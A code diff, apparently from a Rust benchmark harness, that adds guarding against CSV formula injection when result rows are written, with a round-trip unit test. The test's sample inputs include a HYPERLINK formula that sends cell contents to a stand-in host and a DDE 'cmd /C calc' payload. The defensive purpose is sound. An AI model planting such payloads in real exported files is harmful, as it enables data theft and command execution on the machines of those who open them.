@@ -158,6 +158,61 @@ impl Row {
             self.case.clone(),
         )
     }
+
+    /// The row with its text cells as a CSV holds them: no spreadsheet
+    /// evaluates them ([`guard_cell`]).
+    pub fn guarded(&self) -> Row {
+        self.map_text(|t| guard_cell(t).into_owned())
+    }
+
+    /// A row read from a CSV, its text cells as they were ([`unguard_cell`]).
+    pub fn unguarded(self) -> Row {
+        self.map_text(|t| unguard_cell(t).to_owned())
+    }
+
+    fn map_text(&self, f: impl Fn(&str) -> String) -> Row {
+        Row {
+            candidate: f(&self.candidate),
+            family: f(&self.family),
+            suite: f(&self.suite),
+            case: f(&self.case),
+            detail: f(&self.detail),
+            isolation: f(&self.isolation),
+            ..self.clone()
+        }
+    }
+}
+
+/// What starts a formula in a spreadsheet (OWASP's CSV injection list).
+const FORMULA: &[char] = &['=', '+', '-', '@', '\t', '\r'];
+
+/// A text cell as the harness writes it into a CSV: one that a
+/// spreadsheet would evaluate (starting `= + - @`, a tab or a carriage
+/// return, and not a number) gets a leading `'`, which spreadsheets show
+/// as text; so does one that starts with `'` before such a character, so
+/// that [`unguard_cell`] gives back exactly what was written.
+pub fn guard_cell(text: &str) -> std::borrow::Cow<'_, str> {
+    if risky(text) || quoted(text) {
+        format!("'{text}").into()
+    } else {
+        text.into()
+    }
+}
+
+/// The text [`guard_cell`] wrote as `cell`.
+pub fn unguard_cell(cell: &str) -> &str {
+    if quoted(cell) { &cell[1..] } else { cell }
+}
+
+/// Whether a spreadsheet would evaluate `text`.
+fn risky(text: &str) -> bool {
+    text.starts_with(FORMULA) && text.trim().parse::<f64>().is_err()
+}
+
+/// Whether `text` is a `'` before what [`guard_cell`] would quote.
+fn quoted(text: &str) -> bool {
+    text.strip_prefix('\'')
+        .is_some_and(|rest| rest.starts_with('\'') || risky(rest))
 }
 
 /// Which time is compared.
@@ -173,6 +228,40 @@ pub enum Metric {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    /// Cells a spreadsheet would evaluate are quoted, numbers are not, and
+    /// every text comes back as it was.
+    #[test]
+    fn cells_no_spreadsheet_evaluates() {
+        for (text, cell) in [
+            (
+                "=HYPERLINK(\"http://x/?\"&A1)",
+                "'=HYPERLINK(\"http://x/?\"&A1)",
+            ),
+            ("+1+1", "'+1+1"),
+            ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\tx", "'\tx"),
+            ("\rx", "'\rx"),
+            ("-10", "-10"),
+            ("+2.5", "+2.5"),
+            ("alice", "alice"),
+            ("'=x", "''=x"),
+            ("''", "'''"),
+            ("'", "'"),
+            ("'a", "'a"),
+            ("'-5", "'-5"),
+            ("", ""),
+        ] {
+            assert_eq!(guard_cell(text), cell, "{text:?}");
+            assert_eq!(unguard_cell(cell), text, "{cell:?}");
+        }
+        let mut row = Row::new("=evil()", "toy", "s", "@c");
+        row.detail = "-x".into();
+        let g = row.guarded();
+        assert_eq!((g.candidate.as_str(), g.case.as_str()), ("'=evil()", "'@c"));
+        assert_eq!(g.unguarded(), row);
+    }
 
     #[test]
     fn names_are_kebab_case() {
